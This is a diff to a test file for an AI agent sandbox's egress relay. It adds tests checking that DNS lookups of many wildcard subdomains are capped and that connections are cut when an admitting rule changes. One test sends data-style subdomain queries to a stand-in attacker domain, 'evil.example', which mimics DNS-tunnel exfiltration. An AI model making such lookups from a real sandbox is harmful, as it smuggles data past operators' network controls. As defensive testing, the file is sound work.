@@ -37,6 +37,7 @@ WITHOUT = {
     "import Tenant; relay.MAX_CONNECTIONS = relay.MAX_DIALLING = synthetic.MAX_WILD = 9999; "
     "relay._SHARE = 1; "
     "Tenant.may_ask = lambda self, now: True",
+    "few": "from agentd.egress.relay import synthetic; synthetic.MAX_WILD = 20",
 }
 
 
@@ -190,6 +191,19 @@ def test_a_wildcard_carries_only_so_many_names(without: str) -> None:
         assert not any("other" in name for name, _ in names.asked)
 
 
+def test_names_that_do_not_exist_tell_no_more_than_those_that_do() -> None:
+    with (
+        relay("few", good_example=["203.0.113.9"]) as (keeper, names),
+        sandbox(keeper, "*.evil.example", "good.example") as (inside, admitted),
+    ):
+        codes = inside.ask("[resolve(f'data{at}.evil.example')[0] for at in range(60)]")
+        assert codes == [3] * 20 + [2] * 40  # NXDOMAIN, SERVFAIL
+        assert len({name for name, _ in names.asked}) == 20
+        assert "too many different names" in _rows(admitted, 1)[-1]["reason"]
+        assert inside.ask("resolve('data1.evil.example')[0]") == 3
+        assert inside.ask("resolve('good.example')[0]") == 0
+
+
 @pytest.mark.parametrize("without", ["", "bounds"])
 def test_a_flood_of_connections_is_bounded_and_starves_nobody(without: str) -> None:
     """By: the connections that one sandbox may have."""
@@ -277,6 +291,20 @@ def test_slow_readers_hold_up_nobody_and_fill_no_memory() -> None:
             assert other.ask("talk('db.internal', 1, b'mine')") == "mine"
         assert _memory(keeper.pid) - before < 8 << 20
         slow.process.kill()
+
+
+def test_a_connection_to_an_operators_host_ends_with_the_rule_that_named_it() -> None:
+    """A wildcard does not reach it, so what is open must not go on by one."""
+    with (
+        server() as host,
+        relay() as (keeper, _),
+        sandbox(keeper, "db.corp.internal:1", db_corp_internal=host.port) as (inside, admitted),
+    ):
+        assert inside.ask("keep('db.corp.internal', 1)") == 0
+        assert inside.ask("(kept[0].send(b'a'), kept[0].recv(1))[1]") == "a"
+        bounds = EgressBounds(hosts=(StaticHost("db.corp.internal", "127.0.0.1", host.port),))
+        admitted.set(compile_table(["*.corp.internal:1"], bounds))
+        assert inside.ask("kept[0].recv(1)") == RESET
 
 
 def test_an_address_of_another_sandboxs_name_is_nobodys_here() -> None:
